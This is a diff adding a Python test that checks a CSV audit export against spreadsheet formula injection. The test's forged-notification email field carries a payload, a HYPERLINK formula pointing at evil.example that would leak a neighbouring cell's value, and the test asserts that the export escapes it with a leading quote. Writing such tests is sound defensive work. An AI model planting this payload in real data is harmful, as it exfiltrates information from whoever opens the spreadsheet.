@@ -427,6 +427,17 @@ def test_markdown_cells_cannot_break_the_table(services: Services) -> None:
     assert row.count(" | ") == 6  # seven cells, whatever the email says
 
 
+def test_csv_cells_from_an_itn_cannot_start_a_spreadsheet_formula(services: Services) -> None:
+    # A forged ITN is refused but kept, so its fields reach the audit.
+    send_itn(services, "TXN-FORMULA", '=HYPERLINK("http://evil.example/?"&A2,"open")', passphrase="forged")
+
+    [row] = [row for row in csv.DictReader(io.StringIO(render_csv(audit(services))))
+             if row["transaction_id"] == "TXN-FORMULA"]  # fmt: skip
+
+    assert row["email"].startswith("'=")
+    assert "HYPERLINK" in row["email"].upper()
+
+
 # --- --fix -------------------------------------------------------------------------------------
 
 
